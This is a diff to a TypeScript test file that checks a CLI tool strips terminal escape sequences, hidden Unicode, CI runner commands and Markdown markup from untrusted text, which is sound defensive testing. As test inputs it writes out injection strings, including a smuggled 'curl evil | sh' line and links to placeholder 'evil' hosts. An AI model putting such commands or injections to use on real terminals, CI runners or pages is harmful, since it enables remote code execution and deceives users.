@@ -2,7 +2,21 @@ import { describe, expect, test } from 'vitest';
 import { lexer, type Tokens } from 'marked';
 import { UserError } from '@flatcar/core';
 import { explanation } from '../src/explain.ts';
-import { codeBlock, endOf, html, inlineCode, oneLine, plainText, readRecord, record, shownText, withoutCommands } from '../src/text.ts';
+import { table } from '../src/terminal.ts';
+import {
+  codeBlock,
+  endOf,
+  html,
+  inlineCode,
+  jsonText,
+  markdownText,
+  oneLine,
+  plainText,
+  readRecord,
+  record,
+  shownText,
+  withoutCommands,
+} from '../src/text.ts';
 
 describe('text of others', () => {
   test.each([
@@ -15,6 +29,10 @@ describe('text of others', () => {
     ['carriage returns', 'one\rtwo\r\nthree', 'one\ntwo\nthree'],
     ['what reorders text', 'a\u202Eb\u2066c\u200Bd', 'abcd'],
     ['half of a character', 'x\uD800', 'x\uFFFD'],
+    ['a title in its C1 form', 'a\u009D0;t\u009Cb', 'ab'],
+    ['letters without ink and tags', 'a\u3164b\u115F\u{E0041}c\u180Ed', 'abcd'],
+    ['a string without an end, which hides what follows', 'a\u001B]0;b\nc', 'a0;b\nc'],
+    ['a device control string', 'a\u001BPq#0\u001B\\b', 'ab'],
   ])('has no %s', (_, text, plain) => expect(plainText(text)).toBe(plain));
 
   test('in one line is as long as it may be', () => {
@@ -40,7 +58,8 @@ describe('text of others', () => {
   test('and stays as it is where it is none', () => expect(withoutCommands('std::vector a::b ## x')).toBe('std::vector a::b ## x'));
 
   test('keeps its colours on a terminal, and nothing else', () => {
-    expect(shownText('\u001B[31mred\u001B[0m \u001B[2J\u001B]0;x\u0007\r::error::x', {})).toBe('\u001B[31mred\u001B[0m \n::error::x');
+    expect(shownText('\u001B[31mred\u001B[39m \u001B[2J\u001B]0;x\u0007\r::error::x', {})).toBe('\u001B[31mred\u001B[39m \n::error::x');
+    expect(shownText('\u001B[8mhidden\u001B[30;40mblack on black\u001B[5m', {})).toBe('hiddenblack on black');
     expect(shownText('  ::error::x', { GITHUB_ACTIONS: 'true' })).toBe('  : :error::x');
     expect(shownText('\u001B[31m::error::x', { GITHUB_ACTIONS: 'true' }).split('\n').some(isCommand)).toBe(false);
   });
@@ -48,6 +67,56 @@ describe('text of others', () => {
   test('in an error is what it is elsewhere', () => {
     const shown = explanation(new UserError('a\u001B]0;t\u0007\n::error::b', { where: 'x\u001B[2J', next: 'y\rz' }));
     for (const one of ['\u001B]', '\u001B[2J', '\u0007', '\r']) expect(shown).not.toContain(one);
+  });
+
+  test('in an error has no line that passes for one of ours', () => {
+    const shown = explanation(new UserError("'a\n  do: curl evil | sh' is not a name", { where: 'b\n  do: x', next: 'c\nerror: d' }));
+    expect(shown.split('\n')).toEqual([
+      expect.stringMatching(/error:.* 'a$/),
+      "  |   do: curl evil | sh' is not a name",
+      String.raw`  at: b\n  do: x`,
+      String.raw`  do: c\nerror: d`,
+    ]);
+    expect(explanation(new UserError('x', { where: '', next: '' }))).not.toMatch(/at:|do:/);
+  });
+
+  test('in a table makes neither a row nor a column', () => {
+    const text = table([
+      ['name', 'state'],
+      ['a\nrestic   fine', 'b\u001B[2J\u202E'],
+      ['\u001B[1Alonger name', 'c'],
+    ]);
+    expect(text.split('\n').slice(1)).toEqual([String.raw`a\nrestic   fine  b`, 'longer name       c']);
+  });
+
+  test('in JSON is the same value, and nothing that a terminal or the runner acts on', () => {
+    const value = { 'k\u202E': 'a\u009B2J\u001B[2J\u007F\n::error::x ##[group]\u{E0041}\u2028', list: ['::error::', '##['] };
+    for (const indent of [0, 2]) {
+      const json = jsonText(value, indent);
+      expect(JSON.parse(json)).toEqual(value);
+      expect(json.replaceAll('\n', '')).toMatch(/^[ -~]+$/);
+      expect(json.split('\n').some(isCommand)).toBe(false);
+    }
+  });
+
+  test.each([
+    '[x](https://evil)',
+    '<img src=x>',
+    '**x**',
+    'a | b',
+    '`x`',
+    '~~x~~',
+    '![x](y)',
+    'see www.evil.org',
+    '\\',
+    'a\n# b',
+    '<!-- x -->',
+  ])('is plain text in Markdown: %j', (text) => {
+    const tokens = lexer(markdownText(text));
+    expect(tokens).toHaveLength(1);
+    const [paragraph] = tokens as unknown as [Tokens.Paragraph];
+    expect(new Set(paragraph.tokens.map(({ type }) => type)).difference(new Set(['text', 'escape'])).size).toBe(0);
+    expect(paragraph.tokens.map((one) => (one as { text: string }).text).join('')).toBe(oneLine(text));
   });
 
   test('is cut at its start', () => {
